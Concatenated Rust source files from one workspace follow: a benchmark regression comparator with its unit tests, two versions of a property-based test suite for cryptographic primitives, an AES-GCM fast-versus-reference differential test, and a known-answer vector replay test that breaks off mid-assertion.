pub fn compare(baseline: &BenchDoc, candidate: &BenchDoc, cfg: &SentinelConfig) -> SentinelReport {
    let mut deltas = Vec::new();
    for base in &baseline.benches {
        let anchored = is_anchored(cfg, &base.experiment, &base.record.name);
        match candidate.find(&base.experiment, &base.record.name) {
            None => deltas.push(Delta {
                experiment: base.experiment.clone(),
                name: base.record.name.clone(),
                base_median_ns: Some(base.record.median_ns),
                cand_median_ns: None,
                ratio: 1.0,
                noise: 0.0,
                anchored,
                status: Status::Missing,
            }),
            Some(cand) => {
                let noise = relative_spread(&base.record)
                    .max(relative_spread(&cand.record))
                    .max(NOISE_FLOOR);
                let ratio = if base.record.median_ns > 0.0 {
                    cand.record.median_ns / base.record.median_ns
                } else {
                    1.0
                };
                let fail_bound = cfg.threshold.max(1.0 + noise);
                let status = if ratio > fail_bound && anchored {
                    Status::Regression
                } else if ratio > 1.0 + noise {
                    Status::Warn
                } else if ratio < 1.0 - noise {
                    Status::Improved
                } else {
                    Status::Ok
                };
                deltas.push(Delta {
                    experiment: base.experiment.clone(),
                    name: base.record.name.clone(),
                    base_median_ns: Some(base.record.median_ns),
                    cand_median_ns: Some(cand.record.median_ns),
                    ratio,
                    noise,
                    anchored,
                    status,
                });
            }
        }
    }
    for cand in &candidate.benches {
        if baseline.find(&cand.experiment, &cand.record.name).is_none() {
            deltas.push(Delta {
                experiment: cand.experiment.clone(),
                name: cand.record.name.clone(),
                base_median_ns: None,
                cand_median_ns: Some(cand.record.median_ns),
                ratio: 1.0,
                noise: 0.0,
                anchored: is_anchored(cfg, &cand.experiment, &cand.record.name),
                status: Status::New,
            });
        }
    }
    SentinelReport { deltas, warn_only: cfg.warn_only }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn doc(rows: &[(&str, &str, f64)]) -> BenchDoc {
        // Builds a merged-shape document where each row's spread is a
        // tight ±2% around the median.
        let mut reports = String::new();
        for (i, (exp, name, median)) in rows.iter().enumerate() {
            if i > 0 {
                reports.push(',');
            }
            reports.push_str(&format!(
                "{{\"schema\":\"genio-bench/v1\",\"experiment\":\"{exp}\",\
                 \"target\":\"t\",\"quick\":true,\"benches\":[{{\
                 \"name\":\"{name}\",\"iters_per_sample\":10,\"samples\":20,\
                 \"min_ns\":{},\"median_ns\":{median},\"p95_ns\":{},\
                 \"max_ns\":{},\"mean_ns\":{median}}}]}}",
                median * 0.98,
                median * 1.02,
                median * 1.05,
            ));
        }
        let text =
            format!("{{\"schema\":\"genio-bench/v1\",\"experiments\":[{reports}]}}");
        BenchDoc::parse(&text).expect("fixture doc parses")
    }

    #[test]
    fn single_sample_bench_is_maximally_noisy_not_confident() {
        // One sample ⇒ min == median == p95 ⇒ computed spread 0. A
        // 1.45x "regression" against such a record must widen to the
        // noise ceiling (landing inside the band) instead of
        // hard-failing the gate on false confidence.
        let text = "{\"schema\":\"genio-bench/v1\",\"experiment\":\"E-X\",\
                    \"target\":\"t\",\"quick\":true,\"benches\":[{\
                    \"name\":\"oneshot\",\"iters_per_sample\":1,\"samples\":1,\
                    \"min_ns\":1000,\"median_ns\":1000,\"p95_ns\":1000,\
                    \"max_ns\":1000,\"mean_ns\":1000}]}";
        let base = BenchDoc::parse(text).expect("base parses");
        let cand = doc(&[("E-X", "oneshot", 1_450.0)]);
        let cfg = SentinelConfig {
            anchors: vec!["oneshot".to_string()],
            ..SentinelConfig::default()
        };
        let report = compare(&base, &cand, &cfg);
        assert!(report.passes(), "single-sample base must not hard-fail");
        assert_eq!(report.count(Status::Ok), 1);
        assert!((report.deltas[0].noise - NOISE_CEIL).abs() < 1e-9);
    }

    #[test]
    fn doc_against_itself_passes_clean() {
        let d = doc(&[("E-O1", "telemetry_overhead", 1_000.0), ("E-S2", "fleet_sim", 5_000.0)]);
        let cfg = SentinelConfig {
            anchors: vec!["fleet_sim".to_string(), "telemetry".to_string()],
            ..SentinelConfig::default()
        };
        let report = compare(&d, &d, &cfg);
        assert!(report.passes());
        assert_eq!(report.count(Status::Ok), 2);
        assert_eq!(report.count(Status::Regression), 0);
        assert_eq!(report.count(Status::Warn), 0);
    }

    #[test]
    fn synthetic_two_x_regression_is_detected_on_anchored_bench() {
        let base = doc(&[("E-S2", "fleet_sim", 5_000.0), ("E-A3", "analyzer_scan", 800.0)]);
        let cand = doc(&[("E-S2", "fleet_sim", 10_000.0), ("E-A3", "analyzer_scan", 800.0)]);
        let cfg = SentinelConfig {
            anchors: vec!["fleet_sim".to_string()],
            ..SentinelConfig::default()
        };
        let report = compare(&base, &cand, &cfg);
        assert!(!report.passes());
        assert_eq!(report.count(Status::Regression), 1);
        let row = report
            .deltas
            .iter()
            .find(|d| d.name == "fleet_sim")
            .expect("fleet_sim delta");
        assert!(row.anchored);
        assert!((row.ratio - 2.0).abs() < 1e-9);
    }

    #[test]
    fn unanchored_regression_only_warns() {
        let base = doc(&[("E-S2", "fleet_sim", 5_000.0)]);
        let cand = doc(&[("E-S2", "fleet_sim", 10_000.0)]);
        let report = compare(&base, &cand, &SentinelConfig::default());
        assert!(report.passes());
        assert_eq!(report.count(Status::Warn), 1);
    }

    #[test]
    fn warn_only_downgrades_anchored_regressions() {
        let base = doc(&[("E-S2", "fleet_sim", 5_000.0)]);
        let cand = doc(&[("E-S2", "fleet_sim", 10_000.0)]);
        let cfg = SentinelConfig {
            anchors: vec!["fleet_sim".to_string()],
            warn_only: true,
            ..SentinelConfig::default()
        };
        let report = compare(&base, &cand, &cfg);
        assert_eq!(report.count(Status::Regression), 1);
        assert!(report.passes());
    }

    #[test]
    fn jitter_inside_noise_band_is_ok() {
        let base = doc(&[("E-O1", "span_hot_path", 1_000.0)]);
        let cand = doc(&[("E-O1", "span_hot_path", 1_030.0)]);
        let cfg = SentinelConfig {
            anchors: vec!["span_hot_path".to_string()],
            ..SentinelConfig::default()
        };
        let report = compare(&base, &cand, &cfg);
        assert_eq!(report.count(Status::Ok), 1);
        assert!(report.passes());
    }

    #[test]
    fn noisy_baseline_widens_the_band_past_the_threshold() {
        // Spread of 40% of the median: a 1.3x ratio must not hard-fail
        // even though it exceeds the 1.25 threshold.
        let text = "{\"schema\":\"genio-bench/v1\",\"experiment\":\"E-X\",\
                    \"target\":\"t\",\"quick\":true,\"benches\":[{\
                    \"name\":\"jittery\",\"iters_per_sample\":1,\"samples\":5,\
                    \"min_ns\":800,\"median_ns\":1000,\"p95_ns\":1200,\
                    \"max_ns\":1300,\"mean_ns\":1000}]}";
        let base = BenchDoc::parse(text).expect("base parses");
        let cand = doc(&[("E-X", "jittery", 1_300.0)]);
        let cfg = SentinelConfig {
            anchors: vec!["jittery".to_string()],
            ..SentinelConfig::default()
        };
        let report = compare(&base, &cand, &cfg);
        assert_eq!(report.count(Status::Regression), 0);
        assert!(report.passes());
    }

    #[test]
    fn missing_and_new_benches_are_informational() {
        let base = doc(&[("E-A", "gone", 100.0), ("E-A", "kept", 100.0)]);
        let cand = doc(&[("E-A", "kept", 100.0), ("E-A", "fresh", 100.0)]);
        let report = compare(&base, &cand, &SentinelConfig::default());
        assert_eq!(report.count(Status::Missing), 1);
        assert_eq!(report.count(Status::New), 1);
        assert!(report.passes());
    }

    #[test]
    fn report_json_carries_schema_and_parses() {
        let base = doc(&[("E-S2", "fleet_sim", 5_000.0)]);
        let cand = doc(&[("E-S2", "fleet_sim", 10_000.0)]);
        let cfg = SentinelConfig {
            anchors: vec!["fleet_sim".to_string()],
            ..SentinelConfig::default()
        };
        let report = compare(&base, &cand, &cfg);
        let text = report.to_json().to_string();
        let parsed = json::parse(&text).expect("report JSON parses");
        assert_eq!(
            parsed.get("schema").and_then(Value::as_str),
            Some(SENTINEL_SCHEMA)
        );
        assert_eq!(parsed.get("pass"), Some(&Value::Bool(false)));
        let rows = parsed
            .get("deltas")
            .and_then(Value::as_arr)
            .expect("deltas array");
        assert_eq!(rows.len(), 1);
        assert_eq!(
            rows[0].get("status").and_then(Value::as_str),
            Some("regression")
        );
        assert!(report.render_text().contains("FAIL"));
    }

    #[test]
    fn single_report_shape_and_bad_schema() {
        let single = "{\"schema\":\"genio-bench/v1\",\"experiment\":\"E-A3\",\
                      \"target\":\"analyzer\",\"quick\":true,\"benches\":[]}";
        assert!(BenchDoc::parse(single).expect("single report parses").benches.is_empty());
        assert!(BenchDoc::parse("{\"schema\":\"nope\"}").is_err());
        assert!(BenchDoc::parse("not json").is_err());
    }
}
