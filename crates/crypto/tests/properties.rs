//! Property-based tests over the cryptographic primitives: the invariants
//! every higher layer of the workspace silently relies on.

use genio_testkit::prelude::*;

use genio_crypto::drbg::HmacDrbg;
use genio_crypto::gcm::AesGcm;
use genio_crypto::hex;
use genio_crypto::hkdf;
use genio_crypto::hmac::HmacSha256;
use genio_crypto::sha256::{sha256, Sha256};
use genio_crypto::sig::{MerkleSignature, MerkleSigner};
use genio_crypto::{ct, dh};

property! {
    /// Incremental hashing over arbitrary chunkings equals one-shot.
    fn sha256_chunking_invariant(data in bytes(0..512),
                                 splits in vec(0usize..512, 0..6)) {
        let oneshot = sha256(&data);
        let mut h = Sha256::new();
        let mut cuts: Vec<usize> = splits.into_iter().map(|s| s % (data.len() + 1)).collect();
        cuts.sort_unstable();
        let mut prev = 0;
        for cut in cuts {
            h.update(&data[prev..cut]);
            prev = cut;
        }
        h.update(&data[prev..]);
        prop_assert_eq!(h.finalize(), oneshot);
    }
}

property! {
    /// Hex encode/decode is a bijection on byte strings.
    fn hex_roundtrip(data in bytes(0..256)) {
        let encoded = hex::encode(&data);
        prop_assert_eq!(hex::decode(&encoded).unwrap(), data);
    }
}

property! {
    /// HMAC verification accepts the genuine tag and rejects any single
    /// bit flip in it.
    fn hmac_bitflip_rejected(key in bytes(1..64),
                             data in bytes(0..128),
                             byte in 0usize..32, bit in 0u8..8) {
        let tag = HmacSha256::mac(&key, &data);
        prop_assert!(HmacSha256::verify(&key, &data, &tag));
        let mut bad = tag;
        bad[byte] ^= 1 << bit;
        prop_assert!(!HmacSha256::verify(&key, &data, &bad));
    }
}

property! {
    /// HKDF expansion of different lengths agrees on the shared prefix.
    fn hkdf_prefix_consistency(ikm in bytes(1..64),
                               info in bytes(0..32),
                               short in 1usize..64, extra in 1usize..64) {
        let a = hkdf::derive(b"salt", &ikm, &info, short);
        let b = hkdf::derive(b"salt", &ikm, &info, short + extra);
        prop_assert_eq!(&a[..], &b[..short]);
    }
}

property! {
    /// GCM seal/open roundtrips for any key size, payload and AAD.
    fn gcm_roundtrip(key_sel in 0u8..3,
                     key in bytes(32),
                     nonce in bytes(12),
                     pt in bytes(0..256),
                     aad in bytes(0..64)) {
        let len = [16, 24, 32][key_sel as usize];
        let aead = AesGcm::new(&key[..len]).unwrap();
        let n: [u8; 12] = nonce.try_into().unwrap();
        let sealed = aead.seal(&n, &pt, &aad);
        prop_assert_eq!(aead.open(&n, &sealed, &aad).unwrap(), pt);
    }
}

property! {
    /// Any single bit flip anywhere in the sealed blob breaks the tag.
    fn gcm_bitflip_rejected(key in bytes(16),
                            pt in bytes(1..128),
                            pos in index(), bit in 0u8..8) {
        let aead = AesGcm::new(&key).unwrap();
        let nonce = [9u8; 12];
        let mut sealed = aead.seal(&nonce, &pt, b"aad");
        let idx = pos.index(sealed.len());
        sealed[idx] ^= 1 << bit;
        prop_assert!(aead.open(&nonce, &sealed, b"aad").is_err());
    }
}

property! {
    /// Constant-time equality agrees with ==.
    fn ct_eq_matches_eq(a in bytes(0..64),
                        b in bytes(0..64)) {
        prop_assert_eq!(ct::eq(&a, &b), a == b);
    }
}

property! {
    /// Field algebra mod 2^127-1: commutativity, associativity,
    /// distributivity, and Fermat inverses for nonzero elements.
    fn dh_field_axioms(a in 0u128..dh::P, b in 0u128..dh::P, c in 0u128..dh::P) {
        prop_assert_eq!(dh::mul(a, b), dh::mul(b, a));
        prop_assert_eq!(dh::mul(dh::mul(a, b), c), dh::mul(a, dh::mul(b, c)));
        prop_assert_eq!(dh::mul(a, dh::add(b, c)), dh::add(dh::mul(a, b), dh::mul(a, c)));
        if a != 0 {
            let inv = dh::pow(a, dh::P - 2);
            prop_assert_eq!(dh::mul(a, inv), 1);
        }
    }
}

property! {
    /// DH key agreement is symmetric for arbitrary seeds.
    fn dh_agreement_symmetric(seed_a in bytes(1..32),
                              seed_b in bytes(1..32)) {
        let mut rng_a = HmacDrbg::new(&seed_a);
        let mut rng_b = HmacDrbg::new(&seed_b);
        let ka = dh::KeyPair::generate(&mut rng_a);
        let kb = dh::KeyPair::generate(&mut rng_b);
        prop_assert_eq!(
            ka.shared_secret(kb.public()).unwrap(),
            kb.shared_secret(ka.public()).unwrap()
        );
    }
}

property! {
    /// DRBG determinism: same seed, same stream; the stream has no trivial
    /// repetition across consecutive blocks.
    fn drbg_deterministic(seed in bytes(1..64)) {
        let mut x = HmacDrbg::new(&seed);
        let mut y = HmacDrbg::new(&seed);
        let bx = x.bytes(64);
        prop_assert_eq!(&bx, &y.bytes(64));
        prop_assert_ne!(&bx[..32], &bx[32..]);
    }
}

property! {
    /// Merkle signatures survive serialization and verify only the signed
    /// message (expensive under proptest, full 64 cases here).
    fn merkle_signature_serialization(seed in bytes(1..16),
                                      msg in bytes(0..64)) {
        let mut signer = MerkleSigner::from_seed(&seed, 1);
        let public = signer.public();
        let sig = signer.sign(&msg).unwrap();
        let parsed = MerkleSignature::from_bytes(&sig.to_bytes()).unwrap();
        prop_assert!(parsed.verify(&msg, &public));
        let mut other = msg.clone();
        other.push(0);
        prop_assert!(!parsed.verify(&other, &public));
    }
}
