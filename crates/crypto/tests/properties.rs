//! Property-based tests over the cryptographic primitives: the invariants
//! every higher layer of the workspace silently relies on.

use proptest::prelude::*;

use genio_crypto::drbg::HmacDrbg;
use genio_crypto::gcm::AesGcm;
use genio_crypto::hex;
use genio_crypto::hkdf;
use genio_crypto::hmac::HmacSha256;
use genio_crypto::sha256::{sha256, Sha256};
use genio_crypto::sig::{MerkleSignature, MerkleSigner};
use genio_crypto::{ct, dh};

proptest! {
    /// Incremental hashing over arbitrary chunkings equals one-shot.
    #[test]
    fn sha256_chunking_invariant(data in proptest::collection::vec(any::<u8>(), 0..512),
                                 splits in proptest::collection::vec(0usize..512, 0..6)) {
        let oneshot = sha256(&data);
        let mut h = Sha256::new();
        let mut cuts: Vec<usize> = splits.into_iter().map(|s| s % (data.len() + 1)).collect();
        cuts.sort_unstable();
        let mut prev = 0;
        for cut in cuts {
            h.update(&data[prev..cut]);
            prev = cut;
        }
        h.update(&data[prev..]);
        prop_assert_eq!(h.finalize(), oneshot);
    }

    /// Hex encode/decode is a bijection on byte strings.
    #[test]
    fn hex_roundtrip(data in proptest::collection::vec(any::<u8>(), 0..256)) {
        let encoded = hex::encode(&data);
        prop_assert_eq!(hex::decode(&encoded).unwrap(), data);
    }

    /// HMAC verification accepts the genuine tag and rejects any single
    /// bit flip in it.
    #[test]
    fn hmac_bitflip_rejected(key in proptest::collection::vec(any::<u8>(), 1..64),
                             data in proptest::collection::vec(any::<u8>(), 0..128),
                             byte in 0usize..32, bit in 0u8..8) {
        let tag = HmacSha256::mac(&key, &data);
        prop_assert!(HmacSha256::verify(&key, &data, &tag));
        let mut bad = tag;
        bad[byte] ^= 1 << bit;
        prop_assert!(!HmacSha256::verify(&key, &data, &bad));
    }

    /// HKDF expansion of different lengths agrees on the shared prefix.
    #[test]
    fn hkdf_prefix_consistency(ikm in proptest::collection::vec(any::<u8>(), 1..64),
                               info in proptest::collection::vec(any::<u8>(), 0..32),
                               short in 1usize..64, extra in 1usize..64) {
        let a = hkdf::derive(b"salt", &ikm, &info, short);
        let b = hkdf::derive(b"salt", &ikm, &info, short + extra);
        prop_assert_eq!(&a[..], &b[..short]);
    }

    /// GCM seal/open roundtrips for any key size, payload and AAD.
    #[test]
    fn gcm_roundtrip(key_sel in 0u8..3,
                     key in proptest::collection::vec(any::<u8>(), 32),
                     nonce in proptest::collection::vec(any::<u8>(), 12),
                     pt in proptest::collection::vec(any::<u8>(), 0..256),
                     aad in proptest::collection::vec(any::<u8>(), 0..64)) {
        let len = [16, 24, 32][key_sel as usize];
        let aead = AesGcm::new(&key[..len]).unwrap();
        let n: [u8; 12] = nonce.try_into().unwrap();
        let sealed = aead.seal(&n, &pt, &aad);
        prop_assert_eq!(aead.open(&n, &sealed, &aad).unwrap(), pt);
    }

    /// Any single bit flip anywhere in the sealed blob breaks the tag.
    #[test]
    fn gcm_bitflip_rejected(key in proptest::collection::vec(any::<u8>(), 16),
                            pt in proptest::collection::vec(any::<u8>(), 1..128),
                            pos in any::<prop::sample::Index>(), bit in 0u8..8) {
        let aead = AesGcm::new(&key).unwrap();
        let nonce = [9u8; 12];
        let mut sealed = aead.seal(&nonce, &pt, b"aad");
        let idx = pos.index(sealed.len());
        sealed[idx] ^= 1 << bit;
        prop_assert!(aead.open(&nonce, &sealed, b"aad").is_err());
    }

    /// Constant-time equality agrees with ==.
    #[test]
    fn ct_eq_matches_eq(a in proptest::collection::vec(any::<u8>(), 0..64),
                        b in proptest::collection::vec(any::<u8>(), 0..64)) {
        prop_assert_eq!(ct::eq(&a, &b), a == b);
    }

    /// Field algebra mod 2^127-1: commutativity, associativity,
    /// distributivity, and Fermat inverses for nonzero elements.
    #[test]
    fn dh_field_axioms(a in 0u128..dh::P, b in 0u128..dh::P, c in 0u128..dh::P) {
        prop_assert_eq!(dh::mul(a, b), dh::mul(b, a));
        prop_assert_eq!(dh::mul(dh::mul(a, b), c), dh::mul(a, dh::mul(b, c)));
        prop_assert_eq!(dh::mul(a, dh::add(b, c)), dh::add(dh::mul(a, b), dh::mul(a, c)));
        if a != 0 {
            let inv = dh::pow(a, dh::P - 2);
            prop_assert_eq!(dh::mul(a, inv), 1);
        }
    }

    /// DH key agreement is symmetric for arbitrary seeds.
    #[test]
    fn dh_agreement_symmetric(seed_a in proptest::collection::vec(any::<u8>(), 1..32),
                              seed_b in proptest::collection::vec(any::<u8>(), 1..32)) {
        let mut rng_a = HmacDrbg::new(&seed_a);
        let mut rng_b = HmacDrbg::new(&seed_b);
        let ka = dh::KeyPair::generate(&mut rng_a);
        let kb = dh::KeyPair::generate(&mut rng_b);
        prop_assert_eq!(
            ka.shared_secret(kb.public()).unwrap(),
            kb.shared_secret(ka.public()).unwrap()
        );
    }

    /// DRBG determinism: same seed, same stream; the stream has no trivial
    /// repetition across consecutive blocks.
    #[test]
    fn drbg_deterministic(seed in proptest::collection::vec(any::<u8>(), 1..64)) {
        let mut x = HmacDrbg::new(&seed);
        let mut y = HmacDrbg::new(&seed);
        let bx = x.bytes(64);
        prop_assert_eq!(&bx, &y.bytes(64));
        prop_assert_ne!(&bx[..32], &bx[32..]);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(8))]

    /// Merkle signatures survive serialization and verify only the signed
    /// message (expensive: few cases).
    #[test]
    fn merkle_signature_serialization(seed in proptest::collection::vec(any::<u8>(), 1..16),
                                      msg in proptest::collection::vec(any::<u8>(), 0..64)) {
        let mut signer = MerkleSigner::from_seed(&seed, 1);
        let public = signer.public();
        let sig = signer.sign(&msg).unwrap();
        let parsed = MerkleSignature::from_bytes(&sig.to_bytes()).unwrap();
        prop_assert!(parsed.verify(&msg, &public));
        let mut other = msg.clone();
        other.push(0);
        prop_assert!(!parsed.verify(&other, &public));
    }
}
