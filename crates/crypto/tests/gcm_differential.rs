//! Differential proof that the table-driven AES-GCM fast path is
//! observationally identical to the bitwise/S-box reference path.
//!
//! Every property pits a fast-path function against its `_reference` twin
//! (the oracle) on randomized keys, nonces, AAD and payloads — including
//! empty, single-byte and non-block-aligned lengths up to 4 KiB — and the
//! batched `seal_many`/`open_many` entry points against their sequential
//! loops. Four 256-case properties give ≥1024 generated cases per run on
//! top of the deterministic length sweep.

use genio_testkit::prelude::*;

use genio_crypto::gcm::AesGcm;
use genio_crypto::ghash::{ghash_reference, GhashKey};

const KEY_LENS: [usize; 3] = [16, 24, 32];

fn aead(key: &[u8], sel: u8) -> AesGcm {
    let len = KEY_LENS[(sel % 3) as usize];
    AesGcm::new(&key[..len]).expect("valid key length")
}

property! {
    cases = 256;
    /// Windowed-table GHASH equals the bitwise-multiply reference for any
    /// key and any (aad, ct) pair, aligned or not.
    fn ghash_table_matches_reference(h in bytes(16),
                                     aad in bytes(0..128),
                                     ct in bytes(0..512)) {
        let h = u128::from_be_bytes(h.try_into().expect("16 bytes"));
        let key = GhashKey::new(h);
        prop_assert_eq!(key.ghash(&aad, &ct), ghash_reference(h, &aad, &ct));
    }
}

property! {
    cases = 256;
    /// Fast seal produces the byte-identical ciphertext+tag of the
    /// reference seal for all key sizes and payloads up to 4 KiB, and both
    /// paths open each other's output.
    fn seal_fast_matches_reference(key_sel in 0u8..3,
                                   key in bytes(32),
                                   nonce in bytes(12),
                                   pt in bytes(0..4096),
                                   aad in bytes(0..64)) {
        let gcm = aead(&key, key_sel);
        let n: [u8; 12] = nonce.try_into().expect("12 bytes");
        let fast = gcm.seal(&n, &pt, &aad);
        let slow = gcm.seal_reference(&n, &pt, &aad);
        prop_assert_eq!(&fast, &slow);
        prop_assert_eq!(gcm.open(&n, &slow, &aad).unwrap(), pt.clone());
        prop_assert_eq!(gcm.open_reference(&n, &fast, &aad).unwrap(), pt);
    }
}

property! {
    cases = 256;
    /// One batched `seal_many` call equals the sequential `seal` loop
    /// frame-for-frame, and `open_many` recovers every plaintext.
    fn seal_many_matches_looped_seal(key_sel in 0u8..3,
                                     key in bytes(32),
                                     nonce in bytes(12),
                                     pts in vec(bytes(0..512), 1..10),
                                     aad in bytes(0..32)) {
        let gcm = aead(&key, key_sel);
        let base: [u8; 12] = nonce.try_into().expect("12 bytes");
        let nonces: Vec<[u8; 12]> = (0..pts.len()).map(|i| {
            let mut n = base;
            n[11] = i as u8; // distinct per frame
            n
        }).collect();
        let pt_refs: Vec<&[u8]> = pts.iter().map(Vec::as_slice).collect();
        let aads: Vec<&[u8]> = pts.iter().map(|_| &aad[..]).collect();
        let batch = gcm.seal_many(&nonces, &pt_refs, &aads).unwrap();
        for (i, sealed) in batch.iter().enumerate() {
            prop_assert_eq!(sealed, &gcm.seal(&nonces[i], &pt_refs[i], &aad));
        }
        let sealed_refs: Vec<&[u8]> = batch.iter().map(Vec::as_slice).collect();
        let opened = gcm.open_many(&nonces, &sealed_refs, &aads).unwrap();
        for (got, want) in opened.into_iter().zip(pts.iter()) {
            prop_assert_eq!(&got.unwrap(), want);
        }
    }
}

property! {
    cases = 256;
    /// Tampering any bit of any frame in a batch is rejected by `open_many`
    /// on exactly the frames the sequential `open` loop rejects — and by
    /// the reference batch on exactly the same frames.
    fn open_many_tamper_parity(key in bytes(16),
                               pts in vec(bytes(1..256), 2..8),
                               frame_sel in index(),
                               pos in index(),
                               bit in 0u8..8) {
        let gcm = AesGcm::new(&key).unwrap();
        let nonces: Vec<[u8; 12]> = (0..pts.len()).map(|i| {
            let mut n = [0x3au8; 12];
            n[11] = i as u8;
            n
        }).collect();
        let pt_refs: Vec<&[u8]> = pts.iter().map(Vec::as_slice).collect();
        let aads: Vec<&[u8]> = pts.iter().map(|_| b"hdr" as &[u8]).collect();
        let mut sealed = gcm.seal_many(&nonces, &pt_refs, &aads).unwrap();
        let victim = frame_sel.index(sealed.len());
        let idx = pos.index(sealed[victim].len());
        sealed[victim][idx] ^= 1 << bit;

        let sealed_refs: Vec<&[u8]> = sealed.iter().map(Vec::as_slice).collect();
        let batch = gcm.open_many(&nonces, &sealed_refs, &aads).unwrap();
        let batch_ref = gcm.open_many_reference(&nonces, &sealed_refs, &aads).unwrap();
        for (i, (fast, slow)) in batch.iter().zip(batch_ref.iter()).enumerate() {
            let sequential = gcm.open(&nonces[i], &sealed_refs[i], b"hdr");
            prop_assert_eq!(fast.is_ok(), sequential.is_ok());
            prop_assert_eq!(slow.is_ok(), sequential.is_ok());
            if i == victim {
                prop_assert!(fast.is_err());
            } else {
                prop_assert_eq!(fast.as_ref().unwrap(), &pts[i]);
                prop_assert_eq!(slow.as_ref().unwrap(), &pts[i]);
            }
        }
    }
}

/// Deterministic sweep across every length 0..=257 plus larger sizes that
/// cross the 8-lane (128-byte) keystream batch boundary — the off-by-one
/// surface of the interleaved CTR path.
#[test]
fn length_sweep_fast_equals_reference() {
    let key = [0x5cu8; 32];
    let gcm = AesGcm::new(&key).unwrap();
    let nonce = [7u8; 12];
    let data: Vec<u8> = (0..4096u32).map(|i| (i * 31 + 7) as u8).collect();
    let big = [1024usize, 1279, 1280, 1281, 1500, 2048, 4095, 4096];
    for len in (0..=257usize).chain(big) {
        let pt = &data[..len];
        let fast = gcm.seal(&nonce, pt, b"sweep");
        let slow = gcm.seal_reference(&nonce, pt, b"sweep");
        assert_eq!(fast, slow, "len {len}");
        assert_eq!(gcm.open(&nonce, &fast, b"sweep").unwrap(), pt, "len {len}");
    }
}
