//! Known-answer replay of the committed GCM vector corpus
//! (`vectors/gcm_kat.txt`) against BOTH implementations: the dispatched
//! path (table-driven by default, or whatever `GENIO_CRYPTO_BACKEND`
//! selects — `scripts/verify.sh` runs this test once per backend) and the
//! explicit `_reference` twins. Every vector must produce the exact
//! ciphertext and tag, open back to the plaintext, and reject tampering.

use genio_crypto::gcm::{AesGcm, TAG_LEN};
use genio_crypto::hex;

const CORPUS: &str = include_str!("../vectors/gcm_kat.txt");

#[derive(Debug, Default, Clone)]
struct Vector {
    name: String,
    key: Vec<u8>,
    iv: Vec<u8>,
    pt: Vec<u8>,
    aad: Vec<u8>,
    ct: Vec<u8>,
    tag: Vec<u8>,
}

fn parse_corpus() -> Vec<Vector> {
    let mut vectors = Vec::new();
    let mut current = Vector::default();
    let mut seen_fields = 0;
    for line in CORPUS.lines() {
        let line = line.trim();
        if let Some(comment) = line.strip_prefix('#') {
            let comment = comment.trim();
            if comment.starts_with("Test Case") {
                current.name = comment.to_string();
            }
            continue;
        }
        if line.is_empty() {
            continue;
        }
        let Some((field, value)) = line.split_once('=') else {
            panic!("malformed corpus line: {line}");
        };
        let bytes = hex::decode(value).unwrap_or_else(|_| panic!("bad hex in {line}"));
        match field {
            "KEY" => current.key = bytes,
            "IV" => current.iv = bytes,
            "PT" => current.pt = bytes,
            "AAD" => current.aad = bytes,
            "CT" => current.ct = bytes,
            "TAG" => {
                current.tag = bytes;
            }
            other => panic!("unknown field {other}"),
        }
        seen_fields += 1;
        if seen_fields == 6 {
            vectors.push(std::mem::take(&mut current));
            seen_fields = 0;
        }
    }
    assert_eq!(seen_fields, 0, "truncated final record");
    vectors
}

fn nonce(v: &Vector) -> [u8; 12] {
    v.iv.clone().try_into().expect("96-bit IV")
}

#[test]
fn corpus_is_complete() {
    let vectors = parse_corpus();
    assert_eq!(vectors.len(), 12, "expected 12 committed vectors");
    let mut key_lens: Vec<usize> = vectors.iter().map(|v| v.key.len()).collect();
    key_lens.dedup();
    assert_eq!(key_lens, [16, 24, 32], "all three AES key sizes covered");
    assert!(vectors.iter().any(|v| v.pt.is_empty()));
    assert!(vectors.iter().any(|v| !v.aad.is_empty()));
    assert!(vectors.iter().any(|v| v.pt.len() % 16 != 0));
}

#[test]
fn dispatched_path_reproduces_every_vector() {
    for v in parse_corpus() {
        let gcm = AesGcm::new(&v.key).expect("valid key");
        let n = nonce(&v);
        let sealed = gcm.seal(&n, &v.pt, &v.aad);
        let (ct, tag) = sealed.split_at(sealed.len() - TAG_LEN);
        assert_eq!(ct, v.ct, "{}: ciphertext", v.name);
        assert_eq!(tag, v.tag, "{}: tag", v.name);
        assert_eq!(gcm.open(&n, &sealed, &v.aad).unwrap(), v.pt, "{}", v.name);
    }
}

#[test]
fn reference_path_reproduces_every_vector() {
    for v in parse_corpus() {
        let gcm = AesGcm::new(&v.key).expect("valid key");
        let n = nonce(&v);
        let sealed = gcm.seal_reference(&n, &v.pt, &v.aad);
        let (ct, tag) = sealed.split_at(sealed.len() - TAG_LEN);
        assert_eq!(ct, v.ct, "{}: ciphertext", v.name);
        assert_eq!(tag, v.tag, "{}: tag", v.name);
        assert_eq!(
            gcm.open_reference(&n, &sealed, &v.aad).unwrap(),
            v.pt,
            "{}",
            v.name
        );
    }
}

#[test]
fn batched_path_reproduces_every_vector() {
    // Group vectors by key so each group exercises one seal_many call.
    let vectors = parse_corpus();
    let mut by_key: Vec<(Vec<u8>, Vec<Vector>)> = Vec::new();
    for v in vectors {
        match by_key.iter_mut().find(|(k, _)| *k == v.key) {
            Some((_, group)) => group.push(v),
            None => by_key.push((v.key.clone(), vec![v])),
        }
    }
    for (key, group) in by_key {
        let gcm = AesGcm::new(&key).expect("valid key");
        let nonces: Vec<[u8; 12]> = group.iter().map(nonce).collect();
        let pts: Vec<&[u8]> = group.iter().map(|v| v.pt.as_slice()).collect();
        let aads: Vec<&[u8]> = group.iter().map(|v| v.aad.as_slice()).collect();
        let sealed = gcm.seal_many(&nonces, &pts, &aads).unwrap();
        for (v, s) in group.iter().zip(sealed.iter()) {
            let (ct, tag) = s.split_at(s.len() - TAG_LEN);
            assert_eq!(ct, v.ct, "{}: batched ciphertext", v.name);
            assert_eq!(tag, v.tag, "{}: batched tag", v.name);
        }
        let sealed_refs: Vec<&[u8]> = sealed.iter().map(Vec::as_slice).collect();
        for (v, opened) in group
            .iter()
            .zip(gcm.open_many(&nonces, &sealed_refs, &aads).unwrap())
        {
            assert_eq!(opened.unwrap(), v.pt, "{}: batched open", v.name);
        }
    }
}

#[test]
fn every_vector_rejects_tag_tampering() {
    for v in parse_corpus() {
        let gcm = AesGcm::new(&v.key).expect("valid key");
        let n = nonce(&v);
        let mut sealed = gcm.seal(&n, &v.pt, &v.aad);
        let last = sealed.len() - 1;
        sealed[last] ^= 0x01;
        assert!(gcm.open(&n, &sealed, &v.aad).is_err(), "{}", v.name);
        assert!(
